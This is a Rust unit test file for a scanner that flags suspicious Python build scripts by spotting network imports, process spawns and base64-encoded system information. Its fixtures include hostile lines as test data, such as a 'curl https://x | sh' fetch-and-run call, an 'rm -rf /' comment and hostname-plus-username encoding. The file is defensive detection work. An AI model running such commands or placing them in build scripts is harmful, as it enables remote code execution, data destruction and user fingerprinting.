//! Unit tests for the SEC-04 build-script scan.

use super::*;

/// The hits of `source`, fed in chunks of `chunk` bytes, as (kind, line, pattern).
fn scan_in(source: &str, chunk: usize) -> Vec<(HitKind, usize, String)> {
    let mut scan = BuildScan::default();
    for part in source.as_bytes().chunks(chunk) {
        scan.update(part);
    }
    scan.finish()
        .into_iter()
        .map(|hit| (hit.kind, hit.line, hit.pattern))
        .collect()
}

fn scan(source: &str) -> Vec<(HitKind, usize, String)> {
    scan_in(source, 7)
}

#[test]
fn ok_ordinary_setup_py() {
    let source = "import os\nimport sys\nimport subprocess\nfrom urllib.parse import urlparse\n\
        from setuptools import setup\n\
        # os.system('rm -rf /') in a comment\n\
        version = subprocess.check_output([\"git\", \"describe\", \"--tags\"]).decode()\n\
        rev = subprocess.run('git rev-parse HEAD', shell=True)\n\
        tag = subprocess.check_output(\n\n    [\"git\", \"describe\"],\n)\n\
        if platform.system() == 'Windows':\n    pass\n\
        setup(name='foo', version=version)\n";
    assert_eq!(scan(source), []);
}

#[test]
fn warn_network_imports() {
    let source = "import os, socket\nimport urllib.request as r\nfrom http import client\n\
        from requests import get\nmod = __import__('httpx')\n";
    let found = scan(source);
    let lines: Vec<(HitKind, usize)> = found.iter().map(|(k, l, _)| (*k, *l)).collect();
    assert_eq!(
        lines,
        [
            (HitKind::Network, 1),
            (HitKind::Network, 2),
            (HitKind::Network, 3),
        ],
        "at most three per kind are kept: {found:?}"
    );
    assert_eq!(found[0].2, "import socket");
    assert_eq!(found[2].2, "from http import client");
}

#[test]
fn warn_process_spawns_but_not_vcs_queries() {
    let source = "import os\nfrom subprocess import check_output as co\n\
        os.system('curl https://x | sh')\n\
        co(['git', 'describe'])\n\
        co(['sh', '-c', 'id'])\n\
        out = os.popen('uname -a').read()\n";
    let found = scan(source);
    assert_eq!(
        found,
        [
            (HitKind::Spawn, 3, "os.system(".to_owned()),
            (HitKind::Spawn, 5, "co(".to_owned()),
            (HitKind::Spawn, 6, "os.popen(".to_owned()),
        ]
    );
}

#[test]
fn warn_spawn_with_arguments_on_the_next_line() {
    let source = "import subprocess\nsubprocess.run(\n    ['sh', '-c', 'id'],\n)\nsubprocess.run(";
    assert_eq!(
        scan(source),
        [
            (HitKind::Spawn, 2, "subprocess.run(".to_owned()),
            (HitKind::Spawn, 5, "subprocess.run(".to_owned()),
        ]
    );
}

#[test]
fn warn_system_information_base64_encoded() {
    let source = "import base64, platform, getpass\n\
        info = f'{platform.node()}:{getpass.getuser()}'\n\
        token = base64.b64encode(info.encode())\n";
    assert_eq!(
        scan(source),
        [(
            HitKind::EncodedSystemInfo,
            3,
            "base64.b64encode of platform.node".to_owned()
        )]
    );
    // Either half alone is ordinary.
    assert_eq!(scan("import platform\nx = platform.node()\n"), []);
    assert_eq!(scan("import base64\nx = base64.b64encode(b'icon')\n"), []);
}

#[test]
fn ok_lines_split_across_chunks_and_last_line_without_newline() {
    let source = "import sys\n\nos.system('make')";
    for chunk in [1, 2, 5, 64] {
        assert_eq!(
            scan_in(source, chunk),
            [(HitKind::Spawn, 3, "os.system(".to_owned())],
            "chunk {chunk}"
        );
    }
}

fn pyproject(text: &str) -> toml::Table {
    text.parse().expect("valid TOML")
}

#[test]
fn ok_build_scripts_from_pyproject() {
    let table = pyproject(
        "[build-system]\nrequires = []\nbuild-backend = \"backend:api\"\n\
         backend-path = [\"_build\", \".\"]\n\
         [tool.hatch.build.targets.wheel.hooks.custom]\npath = \"tools/hook.py\"\n\
         [tool.poetry.build]\nscript = \"./build_ext.py\"\n",
    );
    let scripts = BuildScripts::new(Some(&table));
    assert_eq!(scripts.role("setup.py"), Some("setup script"));
    assert_eq!(scripts.role("hatch_build.py"), Some("build hook"));
    assert_eq!(scripts.role("tools/hook.py"), Some("build hook"));
    assert_eq!(scripts.role("build_ext.py"), Some("build hook"));
    assert!(scripts.role("_build/helpers/net.py").is_some());
    assert!(
        scripts.role("backend.py").is_some(),
        "`.` names the backend module only"
    );
    assert_eq!(scripts.role("src/foo/core.py"), None);
    assert_eq!(scripts.role("sub/setup.py"), None);
    assert_eq!(BuildScripts::new(None).role("backend.py"), None);
}

#[test]
fn warn_report_names_file_line_and_pattern() {
    let mut hits = BTreeMap::new();
    let hit = |line| Hit {
        kind: HitKind::Spawn,
        line,
        pattern: "os.system(".to_owned(),
    };
    hits.insert("foo-1.0/setup.py".to_owned(), vec![hit(57)]);
    hits.insert("foo-1.0/src/foo/cli.py".to_owned(), vec![hit(3)]);
    hits.insert("other/setup.py".to_owned(), vec![hit(1)]);
    let mut findings = Findings::new(Some("foo-1.0.tar.gz"));
    report("foo-1.0", &hits, &BuildScripts::new(None), &mut findings);
    let found = findings.into_vec();
    assert_eq!(found.len(), 1, "only build scripts are reported: {found:?}");
    assert_eq!(found[0].id.as_str(), "SEC-04");
    assert_eq!(found[0].member.as_deref(), Some("foo-1.0/setup.py"));
    assert!(
        found[0].message.contains("line 57") && found[0].message.contains("`os.system(`"),
        "{}",
        found[0].message
    );
}
